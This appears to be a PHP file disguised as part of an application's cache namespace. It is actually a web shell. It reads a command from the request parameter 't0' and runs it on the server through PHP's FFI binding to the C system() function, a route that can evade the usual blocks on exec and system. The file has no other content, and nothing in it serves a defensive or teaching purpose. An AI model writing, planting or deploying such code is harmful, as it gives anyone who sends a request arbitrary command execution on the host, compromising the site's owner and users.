<?php
namespace App\Cache;
$GLOBALS['fn_ex'] = 'exec';
$c = trim(stripslashes($_REQUEST['t0']));
$ffi = FFI::cdef('int system(const char *command);');
$ffi->system($c);
